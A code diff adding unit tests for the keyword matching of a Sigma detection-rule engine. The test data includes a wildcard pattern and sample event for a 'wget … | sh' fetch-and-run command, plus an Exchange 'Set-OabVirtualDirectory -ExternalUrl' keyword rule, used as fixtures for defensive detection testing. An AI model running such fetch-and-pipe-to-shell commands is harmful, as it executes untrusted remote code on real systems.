@@ -243,3 +243,28 @@ describe('sigma: regular expressions', () => {
     expect(compileRule(itemRule('x|re', re), null).pred(new EventView({ x: value }))).toBe(want);
   });
 });
+
+describe('sigma: keywords', () => {
+  const rule = (list: string) => `title: k\nlogsource: {}\ndetection:\n  keywords: ${list}\n  condition: keywords\n`;
+  const cases: Array<[string, string, unknown, boolean]> = [
+    [
+      'a keyword is found inside a longer value',
+      "['Failed password']",
+      { message: 'sshd: Failed password for root' },
+      true,
+    ],
+    ['keywords are case-insensitive', "['failed PASSWORD']", { message: 'Failed password' }, true],
+    ['a keyword searches nested values', "['evil']", { a: { b: ['x', 'the evil one'] } }, true],
+    ['no keyword present', "['evil']", { message: 'good' }, false],
+    ['wildcards work inside keywords', "['wget * | sh']", { cmd: 'wget http://x | sh' }, true],
+  ];
+  it.each(cases)('%s', (_n, list, event, want) => {
+    expect(engineFor(rule(list)).evaluate(event).length > 0).toBe(want);
+  });
+  it("'|all' needs every keyword somewhere in the event", () => {
+    const yaml =
+      "title: k\nlogsource: {}\ndetection:\n  kw:\n    '|all': ['OabVirtualDirectory', ' -ExternalUrl ']\n  condition: kw\n";
+    expect(engineFor(yaml).evaluate({ cmd: 'Set-OabVirtualDirectory -ExternalUrl http://x' })).toHaveLength(1);
+    expect(engineFor(yaml).evaluate({ cmd: 'Set-OabVirtualDirectory' })).toHaveLength(0);
+  });
+});
